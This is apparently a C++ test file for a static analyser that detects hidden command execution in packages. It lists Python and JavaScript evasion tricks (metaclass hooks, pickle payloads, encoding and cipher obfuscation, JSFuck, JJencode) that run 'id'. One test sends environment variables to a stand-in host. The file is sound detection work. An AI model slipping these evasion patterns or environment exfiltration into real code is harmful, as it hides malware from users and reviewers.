#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "facts/code/flow/flow_for_test.h"

namespace assay::code {
namespace {

// The command that every disguise here ends in.
void expect_command(const Scene& scene) {
  ASSERT_ACTION(action, scene, Act::run_shell);
  EXPECT_EQ(action->target, "id");
  EXPECT_TRUE(action->at_load);
}

TEST(Evasion, Decorators_run_when_what_they_decorate_is_defined) {
  expect_command(
      python("import os\ndef d(f):\n    os.system('id')\n    return f\n@d\ndef g():\n    pass\n"));
  expect_command(
      python("import os\ndef d(c):\n    os.system('id')\n    return c\n@d\nclass G:\n    pass\n"));
  expect_command(python("import atexit, os\n@atexit.register\ndef g():\n    os.system('id')\n"));
}

TEST(Evasion, Making_a_class_runs_its_metaclass_and_its_bases_hooks) {
  expect_command(
      python("import os\nclass M(type):\n    def __new__(m, n, b, d):\n        "
             "os.system('id')\nclass C(metaclass=M):\n    pass\n"));
  expect_command(
      python("import os\nclass B:\n    def __init_subclass__(c):\n        os.system('id')\nclass "
             "C(B):\n    pass\n"));
  expect_command(
      python("import os\nclass D:\n    def __set_name__(self, o, n):\n        "
             "os.system('id')\nclass C:\n    d = D()\n"));
}

TEST(Evasion, Reading_a_property_runs_its_getter) {
  expect_command(
      python("import os\nclass C:\n    @property\n    def p(self):\n        os.system('id')\nx = "
             "C().p\n"));
  expect_command(python(
      "import os\nclass C:\n    def __getattr__(self, n):\n        os.system('id')\nx = C().p\n"));
  expect_command(javascript(
      "class C { get p() { require('child_process').exec('id'); } }\nconst x = new C().p;"));
}

TEST(Evasion, Conversions_run_the_methods_that_make_them) {
  for (const std::string_view use : {"str(C())", "f'{C()}'"}) {
    expect_command(
        python("import os\nclass C:\n    def __str__(self):\n        os.system('id')\n        "
               "return 'x'\nx = " +
               std::string(use) + "\n"));
  }
  expect_command(python(
      "import os\nclass C:\n    def __add__(self, o):\n        os.system('id')\nx = C() + 1\n"));
  expect_command(python(
      "import os\nclass C:\n    def __getitem__(self, k):\n        os.system('id')\nx = C()[0]\n"));
  for (const std::string_view trap : {"toString() {", "valueOf() {", "[Symbol.toPrimitive]() {"}) {
    expect_command(
        javascript("const t = { " + std::string(trap) +
                   " require('child_process').exec('id'); return 'x'; } };\nconst s = '' + t;"));
  }
}

TEST(Evasion, A_proxy_is_what_it_stands_for_and_its_traps_run) {
  expect_command(javascript("const p = new Proxy(require('child_process'), {});\np.exec('id');"));
  expect_command(javascript(
      "const p = new Proxy({}, { get(o, n) { require('child_process').exec('id'); } });\np.x;"));
  expect_command(
      javascript("const p = new Proxy(require('child_process').exec, { apply(f, self, list) { "
                 "return f(...list); } });\np('id');"));
}

TEST(Evasion, Import_hooks_and_lazy_modules_run) {
  expect_command(
      python("import os, sys\nclass F:\n    def exec_module(self, m):\n        "
             "os.system('id')\nsys.meta_path.insert(0, F())\n"));
  expect_command(
      analyse("==> setup.py\nimport lazy\nx = lazy.anything\n==> lazy.py\nimport os\ndef "
              "__getattr__(n):\n    os.system('id')\n",
              true));
}

TEST(Evasion, A_pickle_makes_its_calls) {
  expect_command(python("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n"));
}

TEST(Evasion, Modules_come_by_other_ways_than_require) {
  expect_command(
      javascript("require('module').createRequire(__filename)('child_process').exec('id');"));
  expect_command(javascript("Reflect.get(require('child_process'), 'exec').bind(null)('id');"));
  expect_command(javascript("Reflect.apply(require('child_process').exec, null, ['id']);"));
  expect_command(
      javascript("const { Worker } = require('worker_threads');\nnew "
                 "Worker(\"require('child_process').exec('id')\", { eval: true });"));
  expect_command(python("getattr(__import__('os'), 'system').__call__('id')\n"));
  expect_command(python("__import__('operator').attrgetter('system')(__import__('os'))('id')\n"));
}

TEST(Evasion, Text_becomes_code_by_other_ways_than_exec) {
  expect_command(
      python("c = compile(\"__import__('os').system('id')\", 'x', 'exec')\ntype(lambda: 0)(c, "
             "globals())()\n"));
  expect_command(python(
      "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('id')\")\n"));
  expect_command(
      javascript("import('data:text/javascript,require(\"child_process\").exec(\"id\")');"));
}

TEST(Evasion, A_file_that_code_wrote_is_read_as_what_was_written) {
  expect_command(
      javascript("const p = require('os').tmpdir() + '/part.js';\nrequire('fs').writeFileSync(p, "
                 "\"require('child_process').exec('id')\");\nrequire(p);"));
  expect_command(python(
      "import os, runpy, tempfile\np = os.path.join(tempfile.mkdtemp(), 'part.py')\nwith open(p, "
      "'w') as f:\n    f.write(\"import os; os.system('id')\")\nrunpy.run_path(p)\n"));
}

TEST(Evasion, Files_that_only_code_leads_to_have_the_role_of_who_loads_them) {
  Package package = package_from_bundle(
      "==> index.js\nrequire('./' + ['l', 'b'].join('i') + '.js');\n==> "
      "lib.js\nrequire('child_process').exec('id');\n");
  const std::vector<FileRole> roles{{Trigger::install, false, Trigger::install, {}}, {}};
  const FlowResult result = analyse_flow(package, roles, {});
  ASSERT_FALSE(result.actions.empty());
  for (const Action& action : result.actions) EXPECT_EQ(action.trigger, Trigger::install);
}

TEST(Evasion, Folders_on_the_path_of_modules_are_searched) {
  expect_command(
      analyse("==> setup.py\nimport os, sys\nsys.path.insert(0, "
              "os.path.join(os.path.dirname(os.path.abspath(__file__)), 'tests'))\nimport "
              "part\n==> tests/part.py\nimport os\nos.system('id')\n",
              true));
}

TEST(Evasion, Patterns_are_computed_on_constants) {
  expect_command(
      javascript("require('child_process').exec('vq'.replace(/[a-z]/gi, (c) => "
                 "String.fromCharCode(c.charCodeAt(0) > 109 ? c.charCodeAt(0) - 13 : "
                 "c.charCodeAt(0) + 13)));"));
  expect_command(
      javascript("require('child_process').exec('69 64'.split(/\\s+/).map((h) => "
                 "String.fromCharCode(parseInt(h, 16))).join(''));"));
  expect_command(
      javascript("require('child_process').exec('6964'.match(/../g).map((h) => "
                 "String.fromCharCode(parseInt(h, 16))).join(''));"));
  expect_command(javascript(
      "require('child_process').exec('(d)(i)'.replace(/\\((\\w)\\)\\((\\w)\\)/, '$2$1'));"));
  expect_command(
      javascript("require('child_process').exec(require('util').format('%s%s', 'i', 'd'));"));
}

TEST(Evasion, Bytes_are_filled_and_mapped) {
  expect_command(
      python("import os\nout = bytearray()\nfor b in b'he':\n    out.append(b ^ "
             "1)\nos.system(bytes(out).decode())\n"));
  expect_command(
      javascript("require('child_process').exec(Buffer.from('he').map((b) => b ^ 1).toString());"));
}

TEST(Evasion, A_declared_encoding_that_hides_code_is_undone) {
  expect_command(python("# -*- coding: utf_7 -*-\n+AGkAbQBwAG8AcgB0- os\nos.system+ACgAJw-id')\n"));
  expect_command(
      python("# -*- coding: unicode_escape -*-\n# notes \\nimport os\\x0aos.system('id')\n"));
}

TEST(Evasion, A_division_by_zero_may_be_what_a_handler_waits_for) {
  expect_command(
      python("import os\ntry:\n    1 / 0\nexcept ZeroDivisionError:\n    os.system('id')\n"));
}

TEST(Evasion, Hostile_hooks_end) {
  python("class C:\n    def __getattr__(self, n):\n        return self.x\nC().y\n");
  javascript("const p = new Proxy({}, { get(o, n, me) { return me.x; } });\np.y; '' + p;");
  javascript("const t = { toString() { return '' + this; } }; '' + t;");
  python("import pickle\npickle.loads(b'" + std::string(3000, '(') + std::string(3000, 'o') +
         "')\n");
  javascript("'" + std::string(2000, 'a') + "'.replace(/a*a*a*a*a*b/g, 'x');");
}

TEST(Evasion, Asking_whether_a_call_is_there_before_it_is_made_hides_nothing) {
  const std::string_view tests[] = {"f && f(", "typeof f === 'function' && f(", "if (f) f(",
                                    "f ? f(0) : f(", "if (!f) {} else f("};
  for (const std::string_view test : tests) {
    const Scene scene =
        javascript("const f = fetch; exports.later = () => { " + std::string(test) +
                   "'https://a.example.test', {method: 'POST', body: process.env}) };");
    EXPECT_NE(scene.find(Act::send), nullptr) << test;
  }
  const Scene scene = python(
      "from os import environ\ndef later(url):\n  import requests as r\n  if r is not None and "
      "environ: r.post(url, data=environ)\n");
  EXPECT_NE(scene.find(Act::send), nullptr);
}

// What a file of the package runs as code, in the order in which it was found.
std::vector<std::string> texts_run(const Scene& scene) {
  std::vector<std::string> texts;
  for (const Action& action : scene.result.actions) {
    if (action.act == Act::run_code) texts.push_back(action.target);
  }
  return texts;
}

TEST(Evasion, The_letters_that_JSFuck_lives_on_are_computed) {
  const std::pair<std::string_view, std::string_view> cases[] = {
      {"([][[]]+[])+'|'", "undefined|"},
      {"([]['entries']()+[])", "[object Array Iterator]"},
      {"([]+[])['italics']()", "<i></i>"},
      {"([]+[])['fontcolor']()", "<font color=\"undefined\"></font>"},
      {"(RegExp('/')+[])", "/\\//"},
      {"({a:1}+'_')", "[object Object]_"},
      {"(/a/['_']+'|')", "undefined|"},
  };
  for (const auto& [expression, text] : cases) {
    const Scene scene = javascript("eval(" + std::string(expression) + ");");
    EXPECT_EQ(texts_run(scene), std::vector<std::string>{std::string(text)}) << expression;
  }
}

TEST(Evasion, JJencode_is_opened) {
  const Scene scene = javascript(
      R"js($=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[$],_$$:++$,$$$_:(!""+"")[$],$__:++$,$_$:++$,$$__:({}+"")[$],$$_:++$,$$$:++$,$___:++$,$__$:++$};$.$_=($.$_=$+"")[$.$_$]+($._$=$.$_[$.__$])+($.$$=($.$+"")[$.__$])+((!$)+"")[$._$$]+($.__=$.$_[$.$$_])+($.$=(!""+"")[$.__$])+($._=(!""+"")[$._$_])+$.$_[$.$_$]+$.__+$._$+$.$;$.$$=$.$+(!""+"")[$._$$]+$.__+$._+$.$+$.$$;$.$=($.___)[$.$_][$.$_];$.$($.$($.$$+"\""+"\\"+$.__$+$.$__+$.__$+"\\"+$.__$+$.$__+$._$_+"\"")())();)js");
  EXPECT_EQ(texts_run(scene), (std::vector<std::string>{"ab", "return\"\\141\\142\""}));
}

TEST(Evasion, A_module_that_is_wrapped_and_run_is_opened) {
  expect_command(javascript(
      "const vm = "
      "require('vm');\nvm.runInThisContext(require('module').wrap(\"require('child_process')"
      ".execSync('id')\"))(exports, require, module);"));
}

TEST(Evasion, A_cipher_with_a_constant_key_is_undone) {
  // AES-256-CBC of `require("child_process").execSync("id")`, the key all 7, the vector all 1.
  expect_command(
      javascript("const c = require('crypto');\nconst d = c.createDecipheriv('aes-256-cbc', "
                 "Buffer.alloc(32, 7), Buffer.alloc(16, 1));\n"
                 "eval(d.update('"
                 "2d46c5755b671e208eabab8d169ce2cefd4d156c6bb71b3b606061286b816d43c63d1786b30f1b59d"
                 "83e16d5af23cc04', 'hex', 'utf8') + d.final('utf8'));"));
}

TEST(Evasion, A_condition_on_constants_is_decided_before_what_it_guards) {
  EXPECT_EQ(javascript("function f(a) { if (!/^https?:/.test(a)) { throw new Error(a); } "
                       "require('child_process').exec(a); }\n"
                       "try { f('docs'); } catch (e) {}")
                .find(Act::run_shell),
            nullptr);
  EXPECT_EQ(python("import os\ndef f(a):\n    if not a.startswith(('http:', 'https:')):\n        "
                   "raise ValueError(a)\n"
                   "    os.system(a)\ntry:\n    f('docs')\nexcept ValueError:\n    pass\n")
                .find(Act::run_shell),
            nullptr);
}

TEST(Evasion, What_needs_a_variable_of_consent_is_marked) {
  constexpr std::string_view head = "import os, urllib.request\ndef f():\n    if os.environ.get('";
  constexpr std::string_view tail =
      "':\n        return\n    urllib.request.urlopen('https://host.example.test/', "
      "data=b'1')\nf()\n";
  const auto is_opted_in = [&](std::string_view condition) {
    const Scene scene = python(std::string(head) + std::string(condition) + std::string(tail));
    const Action* action = scene.find(Act::fetch);
    return action != nullptr && action->opted_in;
  };
  EXPECT_TRUE(is_opted_in("WIDGET_TELEMETRY') != 'yes"));
  EXPECT_FALSE(is_opted_in("WIDGET_TELEMETRY') == 'yes"));
  EXPECT_FALSE(is_opted_in("WIDGET_TELEMETRY') != 'off"));
  EXPECT_FALSE(is_opted_in("WIDGET_HOME') != 'yes"));
}

}  // namespace
}  // namespace assay::code
